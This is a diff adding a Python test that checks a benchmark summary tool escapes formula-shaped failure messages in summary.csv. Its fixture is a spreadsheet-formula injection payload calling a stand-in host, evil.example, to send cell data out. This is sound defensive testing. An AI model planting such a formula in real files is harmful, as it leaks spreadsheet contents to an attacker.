@@ -231,6 +231,20 @@ def test_write_summary_files(run_dir: Path) -> None:
     assert "A measurement above its peak" in md
 
 
+def test_summary_csv_keeps_a_formula_shaped_message_as_text(tmp_path: Path) -> None:
+    """A case's failure message shaped as a spreadsheet formula reaches summary.csv as text ('=…), never a formula a
+    lab's spreadsheet would run on opening it; numbers, negative ones too, stay numbers."""
+    run = tmp_path / "run43"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    put(run, "evil-case", 1, status="failed", failure=Failure(kind="user", message=formula))
+    put(run, "computation-FP32", 1, metrics=[Metric(name="offset", value=-2.5, unit="s")])
+    write_summary(run, summarize(run))
+    with (run / SUMMARY_CSV).open(newline="", encoding="utf-8") as handle:
+        rows = {row["case"]: row for row in csv.DictReader(handle)}
+    assert rows["evil-case"]["message"] == "'" + formula
+    assert rows["computation-FP32"]["value"] == "-2.5"
+
+
 def test_ratio_needs_matching_units_and_a_peak(tmp_path: Path) -> None:
     run = tmp_path / "run"
     other_unit = Peak(value=2.0, unit="GB/s", source="x")
